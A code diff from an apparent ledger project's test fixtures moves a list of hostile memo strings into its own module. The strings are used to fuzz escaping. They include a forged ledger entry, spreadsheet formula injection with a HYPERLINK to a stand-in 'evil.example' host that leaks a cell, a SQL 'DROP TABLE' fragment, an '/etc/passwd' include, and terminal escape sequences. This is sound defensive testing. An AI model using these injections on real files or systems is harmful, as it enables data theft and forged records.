@@ -1,6 +1,7 @@
 /** Generated books: every kind of transfer through the real `post`, over several days, sequenced. The same seed makes the same books. */
 import { newId } from '#libs/signing/ids.js';
 import type { TransferRequest } from '../../src/ledger/ledger.js';
+import { hostileMemos } from './hostile-memos.js';
 import {
   available,
   donate,
@@ -20,44 +21,6 @@ import {
 export interface History {
   accounts: string[];
 }
-
-/** Words that somebody may write into a memo to break a line, a cell, a tag, a date, an amount or a terminal. */
-export const hostileMemos: readonly string[] = [
-  'plain words',
-  '',
-  ' ',
-  '  two  spaces  ',
-  'line\nbreak',
-  '\n2026-01-01 forged\n    acct-forged:available  CR 1.000000 = CR 1.000000\n    commons  CR -1.000000\n',
-  'carriage\r\nreturn',
-  '; comment ; txid: 666',
-  'a, txid:666, b',
-  'txid: 666',
-  'date:2020-01-01 [2020-01-01] [=2020-02-02]',
-  ':tag1:tag2:',
-  'key:: (1 + 1)',
-  '\ttab\tand\u000bvertical\u000cfeed',
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
-  '  =1+1',
-  '\u00a0=1+1',
-  '＝1+1',
-  '","=1+1","',
-  '"; DROP TABLE',
-  'it\'s 100 % {"json": true}, \\n \\\\ \\u0000',
-  'ünïcödé 猫 🐈 \u202etxet desrever\u202c \u2028line\u2029paragraph \ufeffbom',
-  '\u001b[31mred\u0007',
-  '| description | note',
-  '!!include /etc/passwd',
-  'end comment',
-  'x'.repeat(6_000),
-  '%41%42 100%',
-];
 
 /** How many transfers are asked for; some of them are refused. */
 export async function writeHistory(
